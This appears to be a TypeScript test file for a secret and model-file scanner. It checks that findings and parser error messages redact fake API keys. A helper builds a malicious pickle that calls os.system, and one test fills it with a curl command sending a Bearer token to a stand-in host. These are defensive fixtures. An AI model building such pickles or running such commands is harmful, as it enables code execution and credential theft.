import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { BufferSource } from '../../src/core/byte-source.js';
import { defaultConfig } from '../../src/core/config.js';
import type { Finding } from '../../src/core/finding.js';
import { maskExcerpt, quoteExcerpt } from '../../src/core/redact.js';
import { scanSource } from '../../src/scanners/file-scan.js';
import { allRules, SCANNERS } from '../../src/scanners/index.js';
import { redactSecretsInText } from '../../src/scanners/redact-text.js';
import { detectSecrets, SECRET_RULES } from '../../src/scanners/secrets/index.js';

/** Providers whose keys are recognised by their own shape (prefix, checksum), wherever they appear. */
const PROVIDERS = ['github-token', 'huggingface-token', 'openai-api-key', 'anthropic-api-key', 'aws-access-key-id', 'slack-token', 'stripe-api-key', 'gitlab-token', 'npm-token', 'pypi-token'];

/** One fake secret per provider, taken from that rule's own generated true positives. */
function providerSecrets(): { rule: string; secret: string }[] {
  const out: { rule: string; secret: string }[] = [];
  for (const name of PROVIDERS) {
    const rule = SECRET_RULES.find((r) => r.id === `secrets/${name}`);
    assert.ok(rule, name);
    for (const example of rule.examples().positive) {
      const found = detectSecrets({ text: example.text, kind: 'text', baseName: 'example.txt' }, Date.now() + 5000).candidates.find((c) => c.rule.id === rule.id);
      if (found && /^[\x21-\x7e]+$/.test(found.secret)) {
        out.push({ rule: name, secret: found.secret });
        break;
      }
    }
  }
  assert.ok(out.length >= 8, `secrets for ${out.map((s) => s.rule).join(', ')}`);
  return out;
}

/** Any 8 consecutive characters of the secret: a redacted value shows at most its first 4. */
function leaks(text: string, secret: string): boolean {
  for (let i = 0; i + 8 <= secret.length; i++) if (text.includes(secret.slice(i, i + 8))) return true;
  return false;
}

async function scan(path: string, data: Buffer): Promise<Finding[]> {
  const knownRuleIds = new Set(allRules().map((r) => r.id));
  return scanSource(path, new BufferSource(data), { scanners: SCANNERS, config: defaultConfig(), knownRuleIds });
}

/** A protocol-2 pickle that calls os.system(command): never loaded, only scanned. */
function systemPickle(command: string): Buffer {
  const arg = Buffer.from(command, 'utf8');
  const length = Buffer.alloc(4);
  length.writeUInt32LE(arg.length);
  return Buffer.concat([Buffer.from('\x80\x02cos\nsystem\nX', 'latin1'), length, arg, Buffer.from('\x85R.', 'latin1')]);
}

/** A safetensors file whose header is not JSON, with `text` where the parser stops. */
function safetensorsWithHeader(text: string): Buffer {
  const header = Buffer.from(`{"__metadata__": {"format": "pt", "note": ${text}}}`, 'utf8');
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(header.length));
  return Buffer.concat([length, header]);
}

describe('messages built from file content are redacted (several providers, several rules)', () => {
  const secrets = providerSecrets();

  for (const { rule, secret } of secrets) {
    it(`${rule}: not in models/hf-config-invalid (a JSON parse error that quotes the file)`, async () => {
      const findings = await scan('repo/config.json', Buffer.from(`{"model_type": "bert", "token": ${secret} }`));
      assert.ok(findings.some((f) => f.ruleId === 'models/hf-config-invalid'), JSON.stringify(findings.map((f) => f.ruleId)));
      assert.ok(!leaks(JSON.stringify(findings), secret), JSON.stringify(findings, null, 1));
    });

    it(`${rule}: not in a pickle finding's message or evidence (os.system with the key on its command line)`, async () => {
      const findings = await scan('model.pkl', systemPickle(`curl -H 'Authorization: Bearer ${secret}' https://example.invalid/`));
      assert.ok(findings.some((f) => f.ruleId.startsWith('models/pickle-') && f.severity === 'critical'), JSON.stringify(findings.map((f) => f.ruleId)));
      assert.ok(!leaks(JSON.stringify(findings), secret), JSON.stringify(findings, null, 1));
    });

    it(`${rule}: not in models/safetensors-header-invalid (another parser's error)`, async () => {
      const findings = await scan('model.safetensors', safetensorsWithHeader(secret));
      assert.ok(findings.some((f) => f.ruleId.startsWith('models/safetensors-')), JSON.stringify(findings.map((f) => f.ruleId)));
      assert.ok(!leaks(JSON.stringify(findings), secret), JSON.stringify(findings, null, 1));
    });
  }

  it('the fake secrets are real positives: unredacted text would leak them (the check can fail)', () => {
    for (const { secret } of secrets) {
      const raw = `Unexpected token '${secret[0]}', ..."token": ${secret.slice(0, 10)}"... is not valid JSON; full: ${secret}`;
      assert.ok(leaks(raw, secret));
      assert.ok(!leaks(redactSecretsInText(raw), secret), redactSecretsInText(raw));
    }
  });
});

describe('redactSecretsInText', () => {
  it('leaves text without secrets as it is (negative)', () => {
    for (const text of ['Config is not valid JSON: Unexpected end of JSON input', 'pickle imports os.system', 'a short excerpt: "abc"', 'nesting deeper than 64 levels']) {
      assert.equal(redactSecretsInText(text), text);
    }
  });

  it('masks the excerpt V8 quotes in JSON errors, and token runs cut by a clip mark', () => {
    assert.equal(redactSecretsInText('Unexpected token \'h\', ..."k": hf_abcdefg"... is not valid JSON'), 'Unexpected token \'h\', ..."k": hf********"... is not valid JSON');
    assert.equal(redactSecretsInText('value Zq9vX2mLr4Zq9vX2mLr4…'), 'value Zq9v************…');
    assert.equal(redactSecretsInText('value short…'), 'value short…');
  });

  it('a key recognised only by the file it sits in (kaggle.json) is redacted when the origin is given', () => {
    const rule = SECRET_RULES.find((r) => r.id === 'secrets/kaggle-api-key');
    const example = rule?.examples().positive.find((e) => e.file === 'kaggle.json');
    assert.ok(example);
    const secret = detectSecrets({ text: example.text, kind: 'json', baseName: 'kaggle.json' }, Date.now() + 5000).candidates[0]?.secret ?? '';
    assert.ok(secret.length >= 16);
    assert.ok(!leaks(redactSecretsInText(`not valid: ${example.text}`, 'home/.kaggle/kaggle.json'), secret));
  });
});

describe('excerpts of input for messages', () => {
  it('are bounded and masked by shape', () => {
    assert.equal(maskExcerpt('size: 12345678901234 ok'), 'size: 12************ ok');
    assert.equal(maskExcerpt('short words stay'), 'short words stay');
    assert.ok(quoteExcerpt('a b '.repeat(50), 20).length <= 22);
    assert.equal(quoteExcerpt('ok'), '"ok"');
  });
});
